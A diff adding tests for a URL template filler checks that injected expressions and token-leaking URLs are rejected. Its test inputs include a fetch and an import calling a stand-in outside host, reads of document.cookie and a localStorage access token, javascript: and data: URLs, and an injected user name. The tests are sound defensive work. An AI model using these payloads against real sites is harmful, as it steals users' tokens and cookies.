@@ -38,6 +38,71 @@ describe('expressions in a menu url', () => {
     expect(fillUrlTemplate(template, facts)).toEqual({ kind: 'unknown', expression });
   });
 
+  it.each([
+    'constructor.constructor("return 1")()',
+    "[].filter.constructor('alert(1)')()",
+    '`${token}`',
+    "import('https://other.example/x.js')",
+    'globalThis',
+    'window',
+    'self.token',
+    'document.cookie',
+    "localStorage.getItem('pro__Access-Token')",
+    "fetch('https://other.example/' + token)",
+    "'a'.concat(token)",
+    'encodeURIComponent.call(null, token)',
+    'encodeURIComponent(alert(1))',
+    'encodeURIComponent(encodeURIComponent)',
+    "window['_CONFIG']['domianURL']",
+    "window._CONFIG['__proto__']",
+    'window._CONFIG.constructor',
+    'window._CONFIG.toString',
+    "user['id']",
+    'user.constructor',
+    'user.token',
+    '__proto__',
+    'token; alert(1)',
+    'token, alert(1)',
+    'token || 1',
+    '(token)',
+    '!token',
+    'token + ',
+    "'\\x3c'",
+    '7*7',
+    '<%= 1 %>',
+  ])('[TPL-03] {{%s}} is a name nobody knows, and nothing runs', (expression) => {
+    const found = fillUrlTemplate(`/x?a={{${expression}}}`, facts);
+    expect(found).toEqual({ kind: 'unknown', expression: expression.trim() });
+  });
+
+  it.each(['${token}', '#{token}', '<%= token %>', '{token}', '[[token]]', '%7B%7Btoken%7D%7D'])(
+    '[TPL-03] %s is text: there is one way to write an expression',
+    (text) => {
+      expect(fillUrlTemplate(`/x?a=${text}`, facts)).toEqual(filled(`/x?a=${text}`));
+    },
+  );
+
+  it.each([
+    'https://other.example/?t={{encodeURIComponent(token)}}',
+    "https://other.example/?t={{'' + token}}",
+    "{{'https://other.example/'}}{{token}}",
+    'javascript:{{token}}',
+    'data:text/html,{{token}}',
+    '\\\\other.example/{{token}}',
+    'https://erp.example.other.example/{{token}}',
+    'https://erp.example@other.example/{{token}}',
+    'http://erp.example/{{token}}',
+    'https://erp.example:8443/{{token}}',
+  ])('[TPL-03] the access token does not leave by %s', (template) => {
+    expect(fillUrlTemplate(template, facts).kind).toBe('leaking');
+  });
+
+  it('[TPL-03] what a person is called stays one value, whatever it is', () => {
+    const hostile = { ...facts, user: { ...facts.user, realname: "'}}{{token}}&a=<script>#/../" } };
+    const found = fillUrlTemplate('https://other.example/?u={{user.realname}}', hostile);
+    expect(found).toEqual(filled(`https://other.example/?u=${encodeURIComponent(hostile.user.realname)}`));
+  });
+
   it('[B2.25] the access token is handed to no other site', () => {
     expect(fillUrlTemplate('https://other.example/?t={{token}}', facts)).toEqual({
       kind: 'leaking',
